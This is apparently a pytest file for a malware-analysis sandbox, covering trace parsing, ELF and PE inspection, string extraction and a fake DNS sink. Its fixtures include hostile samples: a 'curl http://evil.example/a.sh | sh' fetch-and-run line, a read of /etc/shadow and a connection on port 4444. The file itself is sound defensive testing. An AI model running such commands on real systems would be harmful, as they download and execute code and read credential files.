"""What reads hostile bytes and texts: traces, ELF and PE files, questions for names, greetings."""

import struct
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as some

from connectors.sandbox import barrier
from connectors.sandbox.behaviours import GRAVITY, KINDS
from connectors.sandbox.limits import Limits
from connectors.sandbox.sink import Seen, answer_to, server_name, understand
from connectors.sandbox.static import kind_of, look_at
from connectors.sandbox.trace import read_trace
from connectors.sandbox.understand import read_story
from incidents.techniques import technique_facts


def calls(*lines: str) -> list[tuple[int, str, bool]]:
    return [(one.pid, one.name, one.worked) for one in read_trace(line.encode() for line in lines)]


def test_calls_that_interrupt_each_other_are_put_together() -> None:
    found = calls(
        '10 1.000000 execve("/bin/sh", ["sh"], 0x7f /* 3 vars */ <unfinished ...>',
        '11 1.100000 openat(AT_FDCWD, "/etc/shadow", O_RDONLY) = -1 EACCES (Permission denied)',
        "10 1.200000 <... execve resumed>) = 0",
        "11 1.300000 +++ exited with 3 +++",
        "11 1.300000 +++ killed by SIGKILL (core dumped) +++",
        "12 1.400000 <... read resumed>) = 5",
        "13 1.500000 pause( <unfinished ...>",
    )
    assert found == [(11, "openat", False), (10, "execve", True), (11, "exit", True), (11, "exit", False),
                     (13, "pause", False)]  # fmt: skip


def test_a_text_in_a_call_is_no_syntax() -> None:
    line = (
        r'10 1.000000 openat(AT_FDCWD, "x\") = 0 <... exit resumed> \"\303\244\n", O_RDONLY) = -1 ENOENT (No such file)'
    )
    (found,) = read_trace([line.encode()])
    assert found.texts == ('x") = 0 <... exit resumed> "ä\n',)
    assert found.error == "ENOENT"


def test_an_address_is_read_where_the_kernel_writes_it_alone() -> None:
    start = '10 1.000000 execve("/s", ["/s"], 0x7f /* 3 vars */) = 0'
    real = '10 1.1 connect(3, {sa_family=AF_INET, sin_port=htons(4444), sin_addr=inet_addr("203.0.113.5")}, 16) = 0'
    six = ('10 1.2 connect(3, {sa_family=AF_INET6, sin6_port=htons(443), sin6_flowinfo=htonl(0), '
           'inet_pton(AF_INET6, "2001:db8::7", &sin6_addr), sin6_scope_id=0}, 28) = 0')  # fmt: skip
    inner = r"{sa_family=AF_INET, sin_port=htons(1), sin_addr=inet_addr(\"192.0.2.1\")}"
    false = f'10 1.3 connect(3, {{sa_family=AF_UNIX, sun_path="{inner}"}}, 110) = 0'
    story = read_story(read_trace(line.encode() for line in (start, real, six, false)), "/s", 50)
    assert set(story.connections) == {("203.0.113.5", 4444), ("2001:db8::7", 443)}


def test_what_the_jail_did_before_is_not_the_samples_doing() -> None:
    lines = ['9 1.0 mount("a", "/b", "tmpfs", 0, NULL) = 0', '9 1.1 execve("/s", ["/s"], 0x7f /* 1 var */) = 0',
             '9 1.2 clone(child_stack=NULL, flags=SIGCHLD) = 3 /* 44 in strace\'s PID NS */',
             '44 1.3 unshare(CLONE_NEWUSER) = -1 ENOSPC (No space left on device)']  # fmt: skip
    story = read_story(read_trace(line.encode() for line in lines), "/s", 50)
    assert [key for key, _ in story.deeds] == ["namespaces"]
    assert (story.processes[44]["parent"], story.processes[9]["parent"]) == (9, 0)


@given(some.lists(some.binary(max_size=200) | some.text(max_size=200).map(lambda text: f"1 1.0 {text}".encode())))
def test_no_trace_stops_its_reader(lines: list[bytes]) -> None:
    read_story(read_trace(lines), "/s", 50)


@given(some.binary(max_size=600), some.sampled_from([b"", b"\x7fELF", b"\x7fELF\x02\x01\x01", b"MZ", b"#!"]))
def test_no_file_stops_its_reader(noise: bytes, magic: bytes) -> None:
    part = look_at(magic + noise, "noise.sh", Limits())
    assert part["size"] == len(magic + noise)


def test_an_elf_tells_of_itself() -> None:
    part = look_at(Path("/bin/sh").read_bytes(), "sh", Limits())
    told = {one["label"]: one["value"] for one in part["facts"]}
    assert told["Class"].startswith("64 bit")
    assert told["Stack"] == "not executable"
    assert told["Linking"].startswith("dynamic, /lib")
    assert ".text" in {one["name"] for one in part["sections"]}
    assert any(name.startswith("needs libc.so") for name in part["imports"])


def pe_file() -> bytes:
    """The smallest that says what it is: one section, no import."""
    head = b"MZ" + b"\0" * 58 + struct.pack("<I", 64)
    coff = b"PE\0\0" + struct.pack("<HHIIIHH", 0x8664, 1, 1_700_000_000, 0, 0, 240, 0x22)
    optional = struct.pack("<HBBIIIII", 0x20B, 14, 0, 512, 0, 0, 0x1000, 0x1000)
    optional += struct.pack("<QIIHHHHHHIIIIHHQQQQII", 0x140000000, 0x1000, 0x200, 6, 0, 0, 0, 6, 0, 0, 0x2000, 0x200, 0,
                            3, 0x140, 0x100000, 0x1000, 0x100000, 0x1000, 0, 16)  # fmt: skip
    section = b".text\0\0\0" + struct.pack("<IIIIIIHHI", 512, 0x1000, 512, 512, 0, 0, 0, 0, 0x60000020)
    return (head + coff + optional + b"\0" * 128 + section).ljust(512, b"\0") + b"\x90" * 512


def test_a_pe_tells_of_itself() -> None:
    part = look_at(pe_file(), "setup.exe", Limits())
    told = {one["label"]: one["value"] for one in part["facts"]}
    assert told["Machine"] == "x86-64"
    assert told["Says it was built"] == "2023-11-14 22:13 UTC"
    assert (told["Stack and data"], told["Signature"]) == ("not executable", "none")
    assert part["sections"] == [{"name": ".text", "size": 512, "flags": "rx"}]


def test_texts_urls_and_addresses_are_found() -> None:
    content = b"\x00\x01curl http://evil.example/a.sh?x=1 | sh\x00 1.2.3.4 999.1.1.1 127.0.0.1\x01\x01"
    content += "hidden!".encode("utf-16-le")
    part = look_at(content, "x", Limits())
    assert part["urls"] == ["http://evil.example/a.sh?x=1"]
    assert part["addresses"] == ["1.2.3.4"]
    assert "hidden!" in part["strings"]


@pytest.mark.parametrize(
    ("content", "name", "kind"),
    [(b"", "", "empty"), (b"print(1)\n", "a.py", "script"), (b"words\n", "a.txt", "text"), (b"\x00\xff", "", "data"),
     (b"PK\x03\x04", "a.docx", "zip")],
)  # fmt: skip
def test_a_file_is_what_its_content_says(content: bytes, name: str, kind: str) -> None:
    assert kind_of(content, name) == kind


def test_every_hint_is_a_technique_that_exists() -> None:
    named = {one for kind in KINDS.values() for one in kind.techniques}
    assert [one for one in named if not technique_facts(one)["known"]] == []
    assert {kind.severity for kind in KINDS.values()} == set(GRAVITY)


def test_every_name_has_an_address_of_its_own() -> None:
    seen = Seen(10)
    question = b"\x12\x34\x01\x00\x00\x01" + b"\0" * 6 + b"\x02c2\x07example\x00\x00\x01\x00\x01"
    answer = answer_to(question, seen)
    assert answer[:2] == b"\x12\x34"
    assert answer[-4:] == bytes([198, 18, 0, 10])
    other = answer_to(question.replace(b"c2", b"c3"), seen)
    assert other[-4:] == bytes([198, 18, 0, 11])
    assert list(seen.names) == ["c2.example", "c3.example"]


@given(some.binary(max_size=300))
def test_no_greeting_stops_the_sink(noise: bytes) -> None:
    heard = understand(noise, "203.0.113.9", 1)
    assert heard.kind in {"http", "tls", "raw", "silent"}
    server_name(b"\x16\x03" + noise)


def test_the_barrier_closes_what_strace_cannot_see() -> None:
    steps = barrier.program()
    assert len(steps) % 8 == 0
    wanted = struct.pack("=HBBI", 0x06, 0, 0, 0x00050000 | 38)
    assert steps.endswith(wanted)
